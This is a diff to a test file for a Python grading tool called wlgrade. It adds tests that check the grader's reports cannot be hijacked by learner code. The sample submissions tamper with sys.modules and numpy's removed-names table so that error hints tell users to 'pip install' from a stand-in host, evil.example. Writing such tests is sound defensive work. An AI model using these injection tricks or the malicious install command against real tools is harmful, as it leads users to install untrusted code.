@@ -165,6 +165,75 @@ describe('a .py exported from the course notebook', () => {
     expect(whole.report.problems.map((p) => p.message)).toEqual([expect.stringMatching(/^removed-both\.py:2: imports float_ from "numpy", but numpy \S+ has no float_ \(`np\.float_` was removed in the NumPy 2\.0 release\. Use `np\.float64` instead\.\)\. Change that import/)]);
   });
 
+  it("quotes numpy's hint as numpy had it before learner code ran, never words learner code put in a module", async () => {
+    // A module of the learner's own in sys.modules, or numpy's own table of removed names rewritten
+    // (both from a default argument, which the definitions-only load evaluates): wlgrade's sentence
+    // said "... has no float_ (<the learner's text>)" as numpy's words, a pip install from anywhere included.
+    const EVIL = 'To restore it run: pip install --index-url https://evil.example/simple numpy-legacy';
+    const own = [
+      'import sys, types',
+      'class Fake(types.ModuleType):',
+      '    __version__ = "2.0 (pip install evil)"',
+      '    def __getattr__(self, name):',
+      `        raise AttributeError(${JSON.stringify('`np.float_` was removed in the NumPy 2.0 release. ' + EVIL)})`,
+      "def _plant(x=sys.modules.__setitem__('numpy.compat2', Fake('numpy.compat2'))):",
+      '    pass',
+      'from numpy.compat2 import float_',
+      '',
+    ].join('\n');
+    const table = [
+      'import numpy as np',
+      "def _plant(x=__import__('numpy._expired_attrs_2_0', fromlist=['x']).__expired_attributes__.__setitem__('float_', " + JSON.stringify(EVIL) + ')):',
+      '    pass',
+      'from numpy import float_',
+      '',
+    ].join('\n');
+    const loss = LOSS.replace(/K\./g, 'np.').replace('loss = 0.0', 'loss = float_(0.0)');
+    const freqs = 'import numpy as np\ndef compute_class_freqs(labels):\n    return float_(np.mean(labels, axis=0)), 1 - np.mean(labels, axis=0)\n\n';
+    const a = await check('own-module.py', own + freqs + loss);
+    expect(a.report.problems.map((p) => p.message)).toEqual([expect.stringMatching(/^own-module\.py:8: imports float_ from "numpy\.compat2", but numpy\.compat2 has no float_\. Change that import/)]);
+    const b = await check('numpy-table.py', table + freqs + loss);
+    expect(b.report.problems.map((p) => p.message)).toEqual([
+      expect.stringMatching(/^numpy-table\.py:4: imports float_ from "numpy", but numpy \S+ has no float_ \(`np\.float_` was removed in the NumPy 2\.0 release\. Use `np\.float64` instead\.\)\. Change that import/),
+    ]);
+    for (const r of [a, b]) expect(JSON.stringify(r.report)).not.toContain('pip install');
+  });
+
+  it('grades on when a module or an exception learner code made raises as the runner describes it', async () => {
+    // A property that raises, where the runner reads the version of the module an import lacked a
+    // name of, or a NameError's name: the Python process died, and the report blamed os._exit.
+    const module = [
+      'import sys, types, numpy as np',
+      'class Evil(types.ModuleType):',
+      '    @property',
+      '    def __version__(self):',
+      '        raise RuntimeError("no version for you")',
+      "def _plant(x=sys.modules.__setitem__('evilmod', Evil('evilmod'))):",
+      '    pass',
+      'from evilmod import nothing',
+      'def compute_class_freqs(labels):',
+      '    return nothing(labels)',
+      '',
+    ].join('\n');
+    const a = await check('evil-version.py', module + LOSS.replace(/K\./g, 'np.'));
+    expect(a.report.problems.map((p) => p.message)).toEqual([expect.stringMatching(/^evil-version\.py:8: imports nothing from "evilmod", but evilmod has no nothing, and compute_class_freqs uses it/)]);
+    expect(a.report.cases.filter((c) => c.function === 'weighted_loss' && c.status === 'passed').length).toBeGreaterThan(0);
+    const exc = [
+      'import numpy as np',
+      'class E(NameError):',
+      '    @property',
+      '    def name(self):',
+      '        raise RuntimeError("hostile")',
+      'def compute_class_freqs(labels):',
+      '    raise E("np")',
+      '',
+    ].join('\n');
+    const b = await check('evil-name.py', exc + LOSS.replace(/K\./g, 'np.'));
+    const freqs = b.report.cases.filter((c) => c.function === 'compute_class_freqs');
+    expect(new Set(freqs.map((c) => c.message.replace(/ on \d+ examples? × \d+ class(es)?/, '')))).toEqual(new Set(['Your compute_class_freqs raised E: np']));
+    expect(b.report.cases.filter((c) => c.function === 'weighted_loss' && c.status === 'passed').length).toBeGreaterThan(0);
+  });
+
   it('keeps one whole-file problem when both graded functions need the missing package', async () => {
     const source = 'import numpy as np\nimport notapkg_wlgrade as xp\n\ndef compute_class_freqs(labels):\n    p = xp.mean(labels, axis=0)\n    return p, 1 - p\n\n';
     const { report } = await check('both.py', source + LOSS.replace(/K\./g, 'xp.'));
